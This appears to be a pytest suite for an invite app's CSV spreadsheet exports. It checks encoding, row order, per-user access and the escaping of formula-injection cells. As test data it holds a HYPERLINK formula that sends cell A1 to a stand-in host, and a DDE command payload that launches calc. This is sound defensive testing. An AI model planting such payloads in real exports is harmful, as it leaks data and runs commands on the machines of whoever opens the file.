"""The sender's spreadsheet (GET /convites.csv, GET /lotes/{id}.csv): opened with Python's
``csv`` module the way a Brazilian spreadsheet opens it, and checked cell by cell."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import httpx
import pytest
from sqlalchemy import update

from app.config import Settings
from app.consent.export import neutralise
from app.storage.database import Database
from app.storage.tables import invites
from app.web.present import local_minute
from tests.batch_helpers import addresses, review_text, send_reviewed
from tests.fixtures import drain
from tests.helpers import invite_row, post_invite
from tests.services import ScriptedSmtp

INJECTED = '=HYPERLINK("https://mal.exemplo/?x="&A1;"clique")'


def sheet(response: httpx.Response) -> list[list[str]]:
    """The file as a spreadsheet reads it: UTF-8 with its BOM, ``;`` between cells."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


HEADER = ["endereço", "nome", "situação", "última mudança", "motivo"]


async def test_my_invites_cell_by_cell_with_formulas_neutralised(
    client: httpx.AsyncClient, settings: Settings, db: Database, smtp: ScriptedSmtp
) -> None:
    sent = await post_invite(client, "ana@exemplo.com", INJECTED)
    await drain(settings)
    smtp.reply_next("550 5.1.1 <bia@exemplo.com> usuário desconhecido")
    failed = await post_invite(client, "bia@exemplo.com", "-Bia + 1")
    await drain(settings)
    await post_invite(client, "caio@exemplo.com", "@caio")

    response = await client.get("/convites.csv")

    assert response.headers["content-disposition"] == 'attachment; filename="convites.csv"'
    rows = sheet(response)
    assert rows[0] == HEADER
    by_address = {row[0]: row for row in rows[1:]}
    assert [row[0] for row in rows[1:]] == [
        "caio@exemplo.com",
        "bia@exemplo.com",
        "ana@exemplo.com",
    ]
    ana = await invite_row(db, sent["id"])
    assert by_address["ana@exemplo.com"] == [
        "ana@exemplo.com",
        "'" + INJECTED,
        "Enviado",  # the word on the row's badge
        local_minute(ana.updated_at),
        "",
    ]
    bia = by_address["bia@exemplo.com"]
    assert bia[1] == "'-Bia + 1" and bia[2] == "Falhou"
    assert bia[4] == (await invite_row(db, failed["id"])).error
    assert by_address["caio@exemplo.com"][1] == "'@caio"
    assert re.fullmatch(r"\d\d/\d\d/\d{4} \d\d:\d\d", bia[3])


async def test_an_international_address_reads_in_its_own_letters(
    client: httpx.AsyncClient,
) -> None:
    await post_invite(client, "ana@açaí.com.br", "Ana")
    rows = sheet(await client.get("/convites.csv"))
    assert [row[:2] for row in rows[1:]] == [["ana@açaí.com.br", "Ana"]]


async def test_the_list_filter_applies_to_the_file(
    client: httpx.AsyncClient, settings: Settings, smtp: ScriptedSmtp
) -> None:
    await post_invite(client, "ana@exemplo.com")
    await drain(settings)
    smtp.reply_next("550 5.1.1 no such user")
    await post_invite(client, "bia@exemplo.com")
    await drain(settings)
    page = await client.get("/convites?estado=atencao")
    assert '<a href="/convites.csv?estado=atencao" download>Baixar planilha (CSV)</a>' in page.text

    rows = sheet(await client.get("/convites.csv?estado=atencao"))

    assert [(row[0], row[2]) for row in rows[1:]] == [("bia@exemplo.com", "Falhou")]


async def test_only_the_senders_own_invites_are_in_the_file(
    client: httpx.AsyncClient, other_client: Any
) -> None:
    await post_invite(client, "ana@exemplo.com")
    async with other_client() as other:
        await post_invite(other, "outro@exemplo.com")
        theirs = sheet(await other.get("/convites.csv"))
    mine = sheet(await client.get("/convites.csv"))
    assert [row[0] for row in mine[1:]] == ["ana@exemplo.com"]
    assert [row[0] for row in theirs[1:]] == ["outro@exemplo.com"]


async def test_signed_out_gets_no_file(anonymous_client: httpx.AsyncClient) -> None:
    response = await anonymous_client.get("/convites.csv", follow_redirects=False)
    assert response.status_code in (303, 401)
    assert b"@" not in response.content


async def test_a_batch_file_cell_by_cell_in_the_order_sent(
    client: httpx.AsyncClient, settings: Settings, db: Database
) -> None:
    sent = await send_reviewed(client, (await review_text(client, addresses(3))).text)
    location = sent.headers["location"].split("?")[0]
    page = await client.get(location)
    assert f'<a href="{location}.csv" download>Baixar planilha (CSV)</a>' in page.text

    response = await client.get(f"{location}.csv")

    batch_id = location.rsplit("/", 1)[1]
    assert response.headers["content-disposition"] == f'attachment; filename="lote-{batch_id}.csv"'
    rows = sheet(response)
    assert rows[0] == HEADER
    assert [row[0] for row in rows[1:]] == addresses(3).split()
    assert all(row[1:3] == ["", "Enviando"] and row[4] == "" for row in rows[1:])


async def test_someone_elses_batch_file_is_a_404(
    client: httpx.AsyncClient, other_client: Any
) -> None:
    sent = await send_reviewed(client, (await review_text(client, addresses(2))).text)
    location = sent.headers["location"].split("?")[0]
    async with other_client() as other:
        response = await other.get(f"{location}.csv")
    assert response.status_code == 404
    assert "pessoa" not in response.text


async def test_a_large_export_comes_in_chunks_and_whole(
    client: httpx.AsyncClient, db: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.consent.export.CHUNK", 2)
    for n in range(5):
        await post_invite(client, f"p{n}@exemplo.com")
    async with db.write() as conn:  # a reason a mail server might write, tab first
        await conn.execute(update(invites).values(error="\tcmd|' /C calc'!A0"))

    rows = sheet(await client.get("/convites.csv"))

    assert [row[0] for row in rows[1:]] == [f"p{n}@exemplo.com" for n in reversed(range(5))]
    assert {row[4] for row in rows[1:]} == {"'\tcmd|' /C calc'!A0"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_start_a_spreadsheet_runs_is_neutralised(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_plain_cells_are_left_alone() -> None:
    assert neutralise("Ana Souza") == "Ana Souza"
    assert neutralise("ana@exemplo.com") == "ana@exemplo.com"
